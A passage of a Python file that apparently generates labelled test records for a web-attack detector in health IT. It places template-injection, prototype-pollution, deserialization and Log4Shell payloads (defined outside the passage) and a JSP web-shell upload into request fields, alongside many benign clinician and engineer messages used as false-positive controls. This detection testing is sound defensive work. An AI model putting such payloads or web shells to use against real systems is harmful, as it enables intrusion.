    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
# fixed `name=value` entries of these sub-families go unquoted (query-string pollution, EJS options, ViewState)
RAW_KV_SUBS = {"javascript-prototype-pollution", "ejs", "java-serialization", "log4shell"}

# the parameter names the real placements use, by category (health-IT fields)
NAMES: dict[str, list[str]] = {
    "generic": ["inputUrl", "endpoint", "_filter", "callback", "rule", "photo_url", "note", "q", "webhook"],
    "java": ["payload", "_filter", "studyUID", "expression", "state", "data", "message", "q", "rule"],
    "ssti": ["template", "body", "reminder_text", "narrative", "subject", "signature", "label", "note", "greeting"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    kv_safe = "=&[]._-:/'*$!(),;{}~@%|^\\"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    documents = True
    unique = True
    path_forbids = "/?#"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in ("java-serialization", "deserialization-gadgets") and any(
            ord(ch) > 126 or ch < " " for ch in payload)

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return super().is_raw(sub, payload, fixed) and not self.is_latin(sub, payload)

    def upload_body(self, filename: str) -> str:
        return JSP_SHELL if ".jsp" in filename.lower() else self.upload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by clinicians, lab staff and health-IT engineers
CHAT = [
    # interface and integration chat (HL7 v2, Mirth, FHIR)
    "ADT feed from the registration system is sending PID-3 with the MRN in the second repetition again, "
    "can someone check the Mirth channel filter?",
    "pasting the failing message: MSH|^~\\&|REG|GENHOSP|LIS|LAB|20240611083000||ADT^A08|MSG00017|P|2.5.1",
    "OBX|1|NM|2823-3^Potassium^LN||5.8|mmol/L|3.5-5.1|H|||F  <- that's the one that paged the ward",
    "the ORU^R01 from the chemistry analyser has OBX-5 empty when the result is pending, we should skip those",
    "Mirth error on the outbound channel: java.lang.NullPointerException at "
    "com.mirth.connect.server.transformers.JavaScriptFilterTransformer, looks like msg['PID']['PID.5'] was missing",
    "our transformer does msg['PID']['PID.5']['PID.5.1'].toString().toUpperCase(), so empty names blow up",
    "reminder: the MLLP listener for the lab is on port 2575, the ADT one on 6661, don't swap them again",
    "FHIR query that works for the discharge dashboard: "
    "GET /Patient?identifier=urn:oid:2.16.840.1.113883.4.1|123456789&_include=Patient:general-practitioner",
    "Observation?code=http://loinc.org|2345-7&date=ge2024-06-01&_sort=-date&_count=50 returns glucose just fine",
    "_revinclude=Provenance:target doubles the response size, only use it for the audit report",
    "the _filter parameter isn't supported on our HAPI server, use chained params like subject.name=smith",
    "Encounter?patient=Patient/8841&status=finished&_elements=period,reasonCode is what the billing export needs",
    "the $everything operation times out on patients with 20 years of history, page it with _count=100",
    "bulk export kicked off: GET /Group/diabetes-cohort/$export?_type=Patient,Observation,MedicationRequest",
    "Subscription resources need channel.endpoint pointing at our webhook, the FHIR server POSTs a notification",
    "HAPI FHIR upgrade to 7.2 needs Java 17, the ProcessBuilder warnings in the bulk export logs are harmless",
    "log4j is 2.17.1 on the PACS now, vendor confirmed the JNDI lookup fix is in",
    # clinical and lab chat (no patient data)
    "potassium on the repeat came back 4.9 mmol/L (ref 3.5-5.1), haemolysed sample the first time",
    "metformin 500 mg PO BID with meals, titrate to 1000 mg BID after two weeks if tolerated",
    "heparin 5000 units SC q8h for VTE prophylaxis unless the platelet count drops below 100",
    "vanc trough target is 15-20 mcg/mL for this indication, pharmacy will dose it",
    "HbA1c reference range on the new analyser is 20-42 mmol/mol, same as before",
    "eGFR < 30 means the order set should warn about contrast, that rule fired correctly today",
    "TSH 0.27-4.20 mIU/L on the report header, the old range was 0.4-4.0",
    "clinic on Ward 7B is running 40 min late, can reception move the 14:30 appointments to the 15:00 slots?",
    "telehealth room for the 10:00 follow-up is live, link sent through the portal not e-mail",
    "on-call pharmacist today is in the basement office, ext 4471",
    "phlebotomy round starts at 06:30 on the medical wards, specimens to the lab by 08:00",
    # DICOM / PACS
    "study 1.2.840.113619.2.55.3.604688119.969.1268071029.320 failed to route, AE title ORTHANC1 port 4242",
    "WADO-URI works: wado?requestType=WADO&studyUID=1.2.3&seriesUID=1.2.3.4&objectUID=1.2.3.4.5"
    "&contentType=application/dicom",
    "DICOMweb QIDO for the viewer: /dicom-web/studies?PatientID=12345&StudyDate=20240601-20240611&includefield=all",
    "C-FIND from the modality worklist returns nothing when the accession number has a leading zero",
    "the OHIF viewer needs the dicomweb root in app-config.js, wadoUriRoot and qidoRoot both",
    "Orthanc Lua script for auto-routing lives in /etc/orthanc/autorouting.lua, please don't edit it live",
    # SQL, config and code pasted between engineers
    "select count(*) from encounters where admit_date >= '2024-06-01' and dept_code = 'ED';",
    "select mrn, last_name from patient where last_name like 'O''Br%' order by last_name limit 20;",
    "the redcap_data table is EAV, so pivot with group_concat or use the API export instead",
    "hapi.fhir.allow_external_references: true and hapi.fhir.server_address: https://fhir.example-hospital.org/R4",
    "fhir.server.base=https://fhir.example-hospital.org/R4 in application.properties, restart the pod after",
    "the booking service crashed with RangeError: Maximum call stack size exceeded in the slot calculator",
    "moved the import job from YAML.load to YAML.safe_load, the nightly lab-order feed still parses",
    "the Rails portal is on ruby 3.2 now, the ERB letter templates needed a tiny fix for keyword args",
    "old Perl LIMS script uses open(my $fh, '<', $path) everywhere now, the two-argument opens are gone",
    "node 20 upgrade done on the telehealth signaling server, process.env.TURN_SECRET comes from the vault now",
    "we replaced the lodash merge of query params with a schema validator, no more surprise keys",
    "the reminder template is 'Hi {{first_name}}, your appointment at {{clinic}} is on {{date}} at {{time}}'",
    "the Jinja lab report uses {% if result.flag == 'H' %}<b>{{ result.value }}</b>{% endif %} for highs",
    "OpenEMR letter templates are Twig now, {{ patient.fname }} and {{ encounter.date|date('d/m/Y') }}",
    "Mirth alert e-mail body uses Velocity: ${channelName} errored at ${date}, see ${error}",
    "HAPI narrative template is Thymeleaf, th:text=\"${resource.code.text}\" for the observation name",
    "FHIR-Converter Liquid template for ADT_A01 maps PID-5 with {% evaluate patientId using 'ID/Patient' %}",
    "the Handlebars e-mail for telehealth has {{#if video_link}}Join here: {{video_link}}{{/if}}",
    "REDCap branching logic: [age] >= 18 and [consent_yn] = '1'",
    "REDCap calc field: rounddown(datediff([dob],'today','y'),0) gives age in years",
    "piping [first_name] into the survey invitation works, smart variable [survey-link] too",
    "the claims portal returns 837P rejections with CLM05-3 = 7, that's a replacement claim",
    "X12 270/271 eligibility checks go through the clearinghouse, not directly to the payer",
    "NCPDP SCRIPT NewRx from the e-prescribing module failed validation, DEA number format again",
    "the infusion pump console shows firmware 3.19 on 40 pumps, biomed is scheduling the rest",
    "AWS: the FHIR nodes enforce IMDSv2 with hop limit 1, the role only has s3:PutObject on the export bucket",
    "Azure API for FHIR uses managed identity, no client secret in the app settings anymore",
    # bios of health-IT staff
    "HL7 interface analyst, 12 years of Mirth Connect, Rhapsody and Cloverleaf. Ask me about PID-3 repetitions.",
    "Clinical informatics nurse, ICU background. I build order sets and the sepsis alert in the EHR.",
    "PACS administrator: DICOM routing, modality worklists, Orthanc and dcm4chee. On call every fourth week.",
    "Lab systems manager for the LIMS and analyser interfaces (chemistry, haematology, microbiology).",
    "FHIR developer on the patient portal team: SMART on FHIR launch, US Core profiles, bulk data export.",
    "Research data manager, REDCap admin for 140 projects, SQL and R for the data warehouse.",
    "Pharmacy informatics: e-prescribing, formulary updates, dose-range checking rules.",
    "Revenue cycle analyst, claims edits and X12 835/837 reconciliation.",
    "Biomedical engineer for the medical-device management console and pump firmware rollouts.",
    "Java developer on the HAPI FHIR server and its Spring Boot interceptors.",
]

SEARCHES = [
    "cardiology", "ICU nurse", "Ward 7B", "radiology PACS admin", "pharmacist on call", "O'Neil", "Dr. Müller",
    "phlebotomy", "HL7 interface analyst", "Mirth", "REDCap admin", "telehealth support", "billing claims",
    "biomed engineering", "lab systems", "microbiology", "haematology", "oncology day unit", "ED registration",
    "medical records", "Epic Beaker", "FHIR developer", "DICOM", "Orthanc", "infection control",
    "clinical informatics", "pharmacy informatics", "e-prescribing", "research data warehouse", "sleep lab",
    "endoscopy", "renal dialysis", "maternity ward 3", "paediatrics", "physiotherapy", "speech therapy",
    "patient portal team", "revenue cycle", "coding (ICD-10)", "Java", "node", "ruby", "perl",
    "template team", "security office",
]

URLS = [
    "https://hl7.org/fhir/R4/search.html#include",
    "https://hl7.org/fhir/R4/operation-patient-everything.html",
    "https://hl7.org/fhir/uv/bulkdata/export.html",
    "https://build.fhir.org/ig/HL7/US-Core/",
    "https://www.dicomstandard.org/using/dicomweb/retrieve-wado-rs-and-wado-uri",
    "https://docs.smarthealthit.org/",
    "https://hapifhir.io/hapi-fhir/docs/server_jpa/configuration.html",
    "https://fhir.example-hospital.org/R4/Patient?family=smith&_include=Patient:organization",
    "https://fhir.example-hospital.org/R4/Observation?code=http://loinc.org|2345-7&_count=50",
    "https://loinc.org/2345-7",
    "https://portal.example-clinic.org/appointments?date=2024-07-02&provider=1234&type=follow-up",
    "https://projectredcap.org/resources/",
    "https://orthanc.uclouvain.be/book/users/rest.html",
    "https://github.com/microsoft/FHIR-Converter",
    "https://pacs.example-hospital.org/ohif/viewer?StudyInstanceUIDs=1.2.840.113619.2.55.3.604688119",
    "https://www.hl7.org/implement/standards/product_brief.cfm?product_id=185",
    "https://docs.nextgen.com/mirth-connect/",
    "https://www.open-emr.org/wiki/index.php/OpenEMR_Wiki_Home_Page",
    "https://redcap.example-university.edu/redcap/surveys/?s=HX7K9R4TWE",
    "https://telehealth.example-clinic.org/join?room=ortho-followup-1030",
]

PROSE = [
    "patient portal appointment booking slots for ward 7b",
    "HL7 ADT A08 messages not reaching the lab",
    "FHIR _include and _revinclude performance",
    "potassium reference range 3.5-5.1 mmol/L",
    "metformin 500 mg BID",
    "Mirth channel error java.lang.NullPointerException",
    "DICOM study failed to route to PACS",
    "WADO request returns 404 for the series",
    "REDCap export to CSV for study 42",
    "claims rejected with CLM05-3 = 7",
    "log4j version on the PACS server",
    "Orthanc autorouting script",
    "telehealth room link not working on iPad",
    "lab label printer template alignment",
    "Jinja template for the lab report header",
    "Twig letter template in OpenEMR",
    "Velocity template for Mirth alerts",
    "Thymeleaf narrative for Observation",
    "Liquid template for ADT_A01 conversion",
    "EJS intake form layout",
    "Razor e-mail template for appointment reminders",
    "prototype settings for the booking widget",
    "Node.js signaling server restart",
    "Ruby on Rails portal upgrade",
    "Perl LIMS script retirement",
    "Java 17 upgrade for HAPI FHIR",
    "cloud metadata service hop limit",
    "Bundle transaction with 200 entries",
    "Subscription endpoint for lab results",
    "e-prescribing NewRx validation error",
]

PROFILES = [
    ("Siobhan O'Reilly", "Radiology Dept, St. Mary's Hospital, Galway"),
    ("Dr. Jürgen Müller", "Kardiologie, Station 4, Universitätsklinikum Köln"),
    ("Aisha Rahman", "Clinical Informatics, Level 2, Royal Infirmary, Edinburgh"),
    ("Tomás García", "Laboratorio Central, Hospital del Mar, Barcelona"),
    ("Priya Nair", "Pharmacy, Block C, City General, Leicester"),
    ("Kwame Mensah", "Biomedical Engineering, Korle Bu Teaching Hospital, Accra"),
    ("Ward 7B Nurses' Station", "Medical Wing, Level 7, Northside Hospital"),
    ("Mirth Integration Team", "IT Building, Room 114, Riverside Health"),
    ("Sleep Lab Reception", "Outpatients, Gate 3, Lakeside Clinic"),
    ("Ruby Thompson", "Patient Portal Team, 55 King St, Manchester"),
    ("Java Street Family Practice", "12 Java St, Brooklyn, NY"),
    ("Dr. Node Okafor", "Renal Unit, Lagos University Teaching Hospital"),
    ("Perla Santos", "Research Data Office, 3rd floor, Manila Medical Center"),
    ("Template & Forms Office", "Medical Records, Basement B1, General Hospital"),
    ("Smarty Pants Pediatrics", "400 Elm Ave, Austin, TX"),
    ("Liquid Nitrogen Store", "Biobank, Cold Room 2, Research Institute"),
    ("Claims Processing (Team Razor)", "Revenue Cycle, 200 Market St, Philadelphia"),
    ("Dr. Emma Velocity-Hart", "Emergency Dept, Queen's Medical Centre, Nottingham"),
    ("Meta Data Services", "Health Records Archive, 9 Depot Rd, Leeds"),
    ("Dr. Mako Tanaka", "Endoscopy Unit, Osaka General Hospital"),
]

UPLOAD_NAMES = [
    "ADT_A08_feed_sample.hl7", "ORU_R01_chemistry_2024-06-11.hl7", "CT_CHEST_1.2.840.113619.2.55.dcm",
    "MR_BRAIN_series_4.zip", "lab_results_2024-06.csv", "redcap_export_STUDY42_DATA_2024-06-30.csv",
    "patient-list (redacted).xlsx", "mirth-channel-ADT-inbound.xml", "fhir-bundle-transaction.json",
    "discharge-letter-template.docx", "OBX_reference_ranges.xlsx", "ward_7B_rota_July.pdf",
    "claims_837P_batch_0611.x12", "eligibility_271_response.txt", "pump-firmware-release-notes-3.19.pdf",
    "orthanc.json", "app-config.js", "reminder_template.html", "jinja-lab-report.html.j2",
    "velocity-alert-email.vm", "thymeleaf-narrative-observation.html", "liquid-ADT_A01.liquid",
    "formulary_update_2024Q3.csv", "consent_form_v3.pdf", "hapi-fhir-application.yaml",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "HAPI-FHIR/7.2.0 (FHIR Client; FHIR 4.0.1/R4; apache)"),
    ("User-Agent", "Mirth Connect/4.5.0"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "okhttp/4.12.0"),
    ("Referer", "https://portal.example-clinic.org/appointments?date=2024-07-02&provider=1234"),
    ("Referer", "https://hl7.org/fhir/R4/search.html"),
    ("Referer", "https://pacs.example-hospital.org/ohif/viewer?StudyInstanceUIDs=1.2.840.113619.2.55.3"),
    ("Referer", "https://redcap.example-university.edu/redcap/index.php?pid=42"),
    ("Accept", "application/fhir+json; fhirVersion=4.0"),
    ("Accept", "multipart/related; type=\"application/dicom\""),
    ("X-Api-Version", "R4"),
    ("X-Request-Id", "9b2e4c71-0f3a-4d8e-b6a2-5c1d7e9f0a34"),
    ("Prefer", "respond-async"),
    ("Accept-Language", "en-GB,en;q=0.9,cy;q=0.6"),
    ("Cookie", "session=abc123; ward=7B; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; last_study=1.2.840.113619.2.55.3; layout=2x2"),
    ("If-None-Match", "W/\"3\""),
    ("X-Forwarded-For", "198.51.100.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
